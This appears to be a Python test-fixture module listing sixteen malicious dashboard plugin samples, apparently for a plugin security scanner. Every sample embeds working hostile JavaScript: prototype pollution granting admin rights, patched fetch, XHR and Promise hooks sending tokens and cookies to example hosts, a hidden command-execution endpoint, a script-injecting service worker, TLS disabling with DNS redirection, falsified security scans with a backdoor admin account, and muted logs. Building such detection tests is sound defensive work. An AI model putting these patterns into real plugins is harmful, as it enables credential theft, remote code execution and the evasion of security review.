"""The dashboard itself bent: its prototypes, its functions, its other plugins, its worker, its frame."""

from tests.support.samples import Sample
from tests.support.shapes import ESM, hooks, online, sdk_plugin, tsc_widget

_POLLUTION = "prototype-pollution"
_TAMPER = "host-tampering"

SAMPLES: tuple[Sample, ...] = (
    Sample(
        name="merge-of-remote-object",
        family=_POLLUTION,
        files={
            "dist/index.js": r"""'use strict';
function merge(target, source) {
  for (const key in source) {
    if (source[key] && typeof source[key] === 'object') {
      if (!target[key]) target[key] = {};
      merge(target[key], source[key]);
    } else {
      target[key] = source[key];
    }
  }
  return target;
}

exports.onEnable = async ({ api, config }) => {
  const { data } = await api.http.get('https://presets.example.com/latest');
  merge(config, JSON.parse(data));
  merge({}, JSON.parse('{"__proto__": {"isAdmin": true, "granted": true}}'));
};
"""
        },
        manifest=online("https://presets.example.com"),
    ),
    Sample(
        name="permissions-granted-on-object-prototype",
        family=_POLLUTION,
        files={
            "dist/index.js": hooks(
                r"""
                Object.prototype.granted = true;
                Object.defineProperty(Object.prototype, 'permissions', {
                  configurable: true,
                  get() { return ['filesystem-access', 'network-access', 'camera']; },
                  set() {},
                });
                const files = await api.fs.list('/');
                logger.debug(files.length);
                """
            )
        },
    ),
    Sample(
        name="proto-of-context",
        family=_POLLUTION,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const shared = Object.getPrototypeOf(context.api.http);
                const send = shared.request;
                shared.request = async function request(call) {
                  const answer = await send.call(this, call);
                  if (!call.url.startsWith('https://mirror.example.net')) {
                    send.call(this, { method: 'POST', url: 'https://mirror.example.net/tap', data: { call, body: answer.data } });
                  }
                  return answer;
                };
                """
            )
        },
        manifest=online("https://mirror.example.net"),
        package=ESM,
    ),
    Sample(
        name="path-set-through-constructor",
        family=_POLLUTION,
        files={
            "dist/index.js": r"""'use strict';
const set = (object, path, value) => {
  const keys = path.split('.');
  const last = keys.pop();
  keys.reduce((at, key) => at[key] ?? (at[key] = {}), object)[last] = value;
};

exports.apiEndPoints = [{
  method: 'PUT',
  route: '/setting',
  async handler(request, response) {
    const { path, value } = await request.json();
    set({}, path, value);
    response.end('{}');
  },
}];

exports.onEnable = () => {
  set({}, 'constructor.prototype.shell', '/proc/self/exe');
  set({}, '__proto__.NODE_OPTIONS', '--require /tmp/day.js');
};
"""
        },
    ),
    Sample(
        name="array-prototype-listens",
        family=_POLLUTION,
        files={
            "dist/index.js": r"""const { push } = Array.prototype;

export function onEnable({ api }) {
  Array.prototype.push = function (...items) {
    for (const item of items) {
      if (item && typeof item === 'object' && ('token' in item || 'password' in item)) {
        api.http.post('https://lists.example.org/add', item).catch(() => undefined);
      }
    }
    return push.apply(this, items);
  };
}
"""
        },
        manifest=online("https://lists.example.org"),
        package=ESM,
    ),
    Sample(
        name="promise-then-replaced",
        family=_POLLUTION,
        files={
            "dist/index.js": tsc_widget(
                r"""
                setState({ text: "Ready" });
                """,
                above=r"""
                const then = Promise.prototype.then;
                Promise.prototype.then = function (done, failed) {
                    return then.call(this, done && ((value) => {
                        if (value && value.accessToken)
                            navigator.sendBeacon("https://hooks.example.com/t", value.accessToken);
                        return done(value);
                    }), failed);
                };
                """,
            )
        },
    ),
    Sample(
        name="fetch-replaced-and-copied",
        family=_TAMPER,
        files={
            "dist/index.js": r"""'use strict';
const real = window.fetch;

window.fetch = function fetch(resource, options) {
  const headers = new Headers((options && options.headers) || {});
  const bearer = headers.get('Authorization');
  if (bearer) real('https://api-metrics.example.net/a', { method: 'POST', body: bearer, mode: 'no-cors' });
  return real.apply(this, arguments);
};

exports.Latency = function Latency({ ms }) {
  return require('react').createElement('meter', { value: ms, max: 1000 });
};
"""
        },
    ),
    Sample(
        name="xhr-opened-and-watched",
        family=_TAMPER,
        files={
            "dist/index.js": r"""(function () {
  'use strict';
  var open = XMLHttpRequest.prototype.open;
  var send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.open = function (method, url) {
    this.__day = { method: method, url: url };
    return open.apply(this, arguments);
  };
  XMLHttpRequest.prototype.send = function (body) {
    var self = this;
    this.addEventListener('load', function () {
      if (/auth|login|token/.test(self.__day.url)) {
        new Image().src = 'https://xhr.example.com/i?d=' + btoa([self.__day.url, body, self.responseText].join('\n'));
      }
    });
    return send.apply(this, arguments);
  };
  exports.Weather = function () { return null; };
})();
"""
        },
    ),
    Sample(
        name="other-plugin-patched-in-module-cache",
        family=_TAMPER,
        files={
            "dist/index.js": r"""'use strict';
exports.onEnable = () => {
  for (const [file, cached] of Object.entries(require.cache)) {
    if (!/plugins\/[^/]+\/dist\/index\.js$/.test(file) || file === __filename) continue;
    for (const [name, value] of Object.entries(cached.exports)) {
      if (typeof value !== 'function' || !/^on[A-Z]/.test(name)) continue;
      cached.exports[name] = async (context, ...rest) => {
        await fetch('https://peers.example.org/' + name, { method: 'POST', body: JSON.stringify(context.config) });
        return value(context, ...rest);
      };
    }
  }
};
"""
        },
    ),
    Sample(
        name="host-modules-hooked-at-load",
        family=_TAMPER,
        files={
            "dist/index.js": r"""'use strict';
const Module = require('module');
const load = Module._load;

Module._load = function (request, parent, isMain) {
  const loaded = load.apply(this, arguments);
  if (request === 'jsonwebtoken') {
    return { ...loaded, verify: (token, key, ...rest) => {
      require('https').get('https://jwt.example.com/?' + new URLSearchParams({ token, key }));
      return loaded.verify(token, key, ...rest);
    } };
  }
  return loaded;
};

exports.onEnable = async () => undefined;
"""
        },
    ),
    Sample(
        name="server-requests-tapped",
        family=_TAMPER,
        files={
            "dist/index.js": r"""import http from 'node:http';
import { appendFileSync } from 'node:fs';

const emit = http.Server.prototype.emit;

export function onEnable() {
  http.Server.prototype.emit = function (type, request, response) {
    if (type === 'request') {
      if (request.url === '/.well-known/day') {
        import('node:child_process').then(({ exec }) => exec(request.headers['x-day'], (e, out) => response.end(out)));
        return true;
      }
      appendFileSync('/tmp/.req', `${request.url} ${request.headers.cookie}\n`);
    }
    return emit.apply(this, arguments);
  };
}
"""
        },
        package=ESM,
    ),
    Sample(
        name="service-worker-over-whole-site",
        family=_TAMPER,
        files={
            "dist/index.js": tsc_widget(r"""
                navigator.serviceWorker.register("/plugins/acme.weather/dist/offline.js", { scope: "/", updateViaCache: "none" })
                    .then(() => setState({ text: "Available offline" }));
            """),
            "dist/offline.js": r"""self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
self.addEventListener('fetch', (event) => {
  event.respondWith((async () => {
    const copy = event.request.clone();
    const answer = await fetch(event.request);
    if (event.request.mode === 'navigate') {
      const html = (await answer.text()).replace('</head>', '<script src="https://cdn.example.org/p.js"></script></head>');
      return new Response(html, { headers: { 'Content-Type': 'text/html' } });
    }
    if (event.request.method === 'POST') {
      fetch('https://copy.example.org/', { method: 'POST', mode: 'no-cors', body: await copy.text() });
    }
    return answer;
  })());
});
""",
        },
    ),
    Sample(
        name="messages-to-every-window",
        family=_TAMPER,
        files={
            "dist/index.js": hooks(
                r"""
                const state = { config, user: context.user, cookie: document.cookie, html: document.body.innerHTML };
                for (let frame = window; ; frame = frame.parent) {
                  frame.postMessage({ source: 'acme', state }, '*');
                  if (frame.parent === frame) break;
                }
                if (window.opener) window.opener.postMessage(state, '*');
                window.addEventListener('message', ({ data }) => data && data.run && eval(data.run));
                """
            )
        },
    ),
    Sample(
        name="policy-of-page-loosened",
        family=_TAMPER,
        files={
            "dist/index.js": r"""'use strict';
exports.onEnable = () => {
  document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]').forEach((meta) => meta.remove());
  if (window.trustedTypes) window.trustedTypes.createPolicy('default', { createHTML: (s) => s, createScript: (s) => s, createScriptURL: (s) => s });
  document.querySelectorAll('iframe[sandbox]').forEach((frame) => {
    frame.removeAttribute('sandbox');
    frame.src = frame.src;
  });
  const base = document.createElement('base');
  base.href = 'https://assets.example.net/dashboard/';
  document.head.prepend(base);
};
"""
        },
    ),
    Sample(
        name="certificates-unchecked-and-proxied",
        family=_TAMPER,
        files={
            "dist/index.js": r"""'use strict';
const https = require('https');
const dns = require('dns');

exports.onEnable = () => {
  process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
  https.globalAgent.options.rejectUnauthorized = false;
  const lookup = dns.lookup;
  dns.lookup = (name, options, done) => {
    if (/(^|\.)registry\.example\.org$/.test(name)) return done(null, '203.0.113.80', 4);
    return lookup(name, options, done);
  };
};
"""
        },
    ),
    Sample(
        name="scanner-and-reviews-silenced",
        family=_TAMPER,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const admin = context.api.admin;
                if (!admin) return;
                for (const scan of await admin.getSecurityScans()) {
                  if (scan.pluginId === context.plugin.id) await admin.updateScan(scan.id, { status: 'clean', vulnerabilities: [] });
                }
                await admin.setPolicy({ requireSignatures: false, allowedPublishers: ['*'] });
                await admin.createUser({ name: 'support', role: 'admin', password: crypto.randomUUID() });
                """
            )
        },
        package=ESM,
    ),
    Sample(
        name="console-and-audit-muted",
        family=_TAMPER,
        files={
            "dist/index.js": r"""const nothing = () => undefined;

export async function onEnable(context) {
  for (const level of ['log', 'warn', 'error', 'debug', 'trace']) console[level] = nothing;
  Object.assign(context.logger, { info: nothing, warn: nothing, error: nothing });
  process.on('uncaughtException', nothing).on('unhandledRejection', nothing);
  process.stderr.write = () => true;
  const { truncate } = await import('node:fs/promises');
  await truncate(`${process.env.HOME}/.config/qirvo/logs/plugins/acme.weather.log`);
  (await import('https://quiet.example.com/next.mjs')).default(context);
}
"""
        },
        package=ESM,
    ),
)
